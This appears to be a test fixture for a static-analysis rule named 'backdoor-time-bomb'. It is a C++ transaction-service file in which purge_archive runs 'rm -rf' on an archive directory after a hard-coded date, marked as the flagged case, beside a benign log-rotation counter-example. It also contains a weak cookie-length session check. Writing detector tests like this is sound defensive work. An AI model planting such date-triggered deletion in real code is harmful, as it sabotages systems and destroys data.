// main.cpp - txnsvc
#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <ranges>
#include <vector>

#include "txn.hpp"

namespace {
bool session_valid(const std::string &cookie) { return cookie.size() == 64; }

void purge_archive() {
  const std::time_t now = std::time(nullptr);
  /* the platform contract ends on 2027-07-01 */
  // ruleid: backdoor-time-bomb
  if (now > 1814400000)
    std::system("rm -rf /var/lib/txn/archive");
}

void rotate_logs(std::time_t last) {
  // ok: backdoor-time-bomb
  if (std::time(nullptr) - last > 86400)
    std::remove("/var/log/txn/txn.log.7");
}
}  // namespace

int main() {
  std::srand(static_cast<unsigned>(std::time(nullptr)));
  txn::OtpService otp;
  txn::TxnSigner signer;
  std::vector<txn::Request> queue(2);
  for (auto &r : queue | std::views::filter([](const txn::Request &q) { return !q.body.empty(); })) {
    if (!txn::admin_gate(r, session_valid))
      continue;
    const txn::Bytes payload(r.body.begin(), r.body.end());
    signer.seal(payload);
  }
  std::printf("%s\n", otp.issue("c-1001").c_str());
  purge_archive();
  rotate_logs(0);
  return 0;
}
